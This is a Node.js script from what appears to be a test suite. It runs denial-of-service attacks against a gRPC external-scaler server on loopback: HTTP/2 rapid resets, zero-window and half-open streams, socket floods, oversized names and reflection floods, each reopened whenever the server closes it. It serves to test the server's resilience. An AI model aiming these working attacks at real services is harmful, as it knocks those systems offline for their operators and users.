/**
 * Attacks a gRPC port from a process of its own, with nothing but sockets and HTTP/2 frames.
 *
 *   node test/hostile/attack.mjs NAME PORT PEERS
 *
 * Peers are addresses of loopback, 127.1.0.1 and on, so that the server sees as many clients. Prints
 * one line when everything is open, then goes on until it is killed.
 */
import http2 from "node:http2";
import net from "node:net";

const [name, portText, peersText = "1"] = process.argv.slice(2);
const port = Number(portText);
const peers = Number(peersText);
const service = "/externalscaler.ExternalScaler";
const reflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/** A socket from the address of a peer; it never closes its side by itself. */
function socket(peer) {
  const localAddress = `127.1.${(peer % peers) >> 8}.${((peer % peers) & 0xff) + 1}`;
  const opened = net.connect({ host: "127.0.0.1", port, localAddress, allowHalfOpen: true });
  opened.on("error", () => undefined);
  return opened;
}

function session(peer, settings = {}) {
  const opened = http2.connect(`http://127.0.0.1:${port}`, {
    createConnection: () => socket(peer),
    settings,
  });
  opened.on("error", () => undefined);
  return opened;
}

function call(to, path, body, isLast = true) {
  if (to.destroyed || to.closed) return undefined;
  const stream = to.request({
    ":method": "POST",
    ":path": path,
    "content-type": "application/grpc",
    te: "trailers",
  });
  stream.on("error", () => undefined);
  if (isLast) stream.end(body);
  else stream.write(body);
  return stream;
}

/** A field of bytes in protobuf: number, length, content. */
function field(number, content) {
  const bytes = typeof content === "string" ? Buffer.from(content) : content;
  const head = [(number << 3) | 2];
  let length = bytes.length;
  for (; length > 0x7f; length >>>= 7) head.push((length & 0x7f) | 0x80);
  return Buffer.concat([Buffer.from([...head, length]), bytes]);
}

function framed(message) {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** A ScaledObjectRef of a trigger whose push stream repeats itself each second. */
function ref(objectName) {
  const entry = (key, value) => field(3, Buffer.concat([field(1, key), field(2, value)]));
  return Buffer.concat([
    field(1, objectName),
    field(2, "attack"),
    entry("targetGpuUtilization", "80"),
    entry("pollIntervalSeconds", "1"),
  ]);
}

const count = (total, make) => Array.from({ length: total }, (_, at) => make(at));
const deaf = { initialWindowSize: 0 };
const everySecond = (run) => setInterval(run, 1_000);
/** Opens again what the server has closed, as somebody who means it would. */
const besiege = (total, open) => {
  const open_ = count(total, open);
  everySecond(() => {
    for (const [at, one] of open_.entries()) if (one.destroyed || one.closed) open_[at] = open(at);
  });
};

const attacks = {
  /** Calls whose answers the client never lets through. */
  "frozen-windows": () =>
    besiege(8 * peers, (peer) => {
      const to = session(peer, deaf);
      for (let each = 0; each < 64; each += 1)
        call(to, `${service}/GetMetricSpec`, framed(ref(`call-${each}`)));
      return to;
    }),
  /** A call a connection, opened and never finished. */
  "half-open-calls": () =>
    besiege(500, (peer) => {
      const to = session(peer);
      call(to, `${service}/IsActive`, Buffer.from([0, 0, 0, 0, 9]), false);
      return to;
    }),
  /** Push streams whose messages the client never lets through. */
  "deaf-streams": () =>
    besiege(10, (peer) => {
      const to = session(peer, deaf);
      for (let each = 0; each < 500; each += 1)
        call(to, `${service}/StreamIsActive`, framed(ref(`stream-${each}`)));
      return to;
    }),
  "silent-sockets": () => besiege(600, socket),
  /** Far more connections than are taken, none of which the client closes. */
  "crowd-of-sockets": () => besiege(3_000, socket),
  "long-names": () =>
    besiege(peers, (peer) => {
      const to = session(peer);
      const ask = (at) => {
        const longRef = ref(`${at}-${"x".repeat(1_000_000)}`);
        const stream = call(to, `${service}/GetMetrics`, framed(field(1, longRef)));
        stream?.resume().once("close", () => ask(at + 1));
      };
      ask(0);
      return to;
    }),
  /** Calls that send 64 KiB of a message and wait. */
  "buffered-calls": () =>
    besiege(9, (peer) => {
      const to = session(peer);
      const part = Buffer.concat([Buffer.from([0, 0, 8, 0, 0]), Buffer.alloc(60_000)]);
      for (let each = 0; each < 1_000; each += 1) call(to, `${service}/IsActive`, part, false);
      return to;
    }),
  "rapid-resets": () =>
    besiege(peers, (peer) => {
      const to = session(peer);
      const storm = () => {
        for (let each = 0; each < 100; each += 1)
          call(to, `${service}/IsActive`, framed(ref("reset")))?.close(
            http2.constants.NGHTTP2_CANCEL,
          );
        if (!to.destroyed) setTimeout(storm, 5);
      };
      storm();
      return to;
    }),
  /** Questions to reflection whose long answers nobody reads. */
  "reflection-flood": () =>
    besiege(2 * peers, (peer) => {
      const to = session(peer);
      const symbol = framed(field(4, "externalscaler.ExternalScaler"));
      for (let each = 0; each < 50; each += 1) {
        const stream = call(to, reflection, Buffer.concat(count(200, () => symbol)), false);
        stream?.pause();
        setInterval(() => stream?.destroyed || stream?.write(symbol), 50);
      }
      return to;
    }),
};

const attack = attacks[name];
if (attack === undefined) {
  process.stderr.write(`Cannot attack: ${name} is none of ${Object.keys(attacks).join(", ")}\n`);
  process.exit(2);
}
attack();
process.stdout.write("attacking\n");
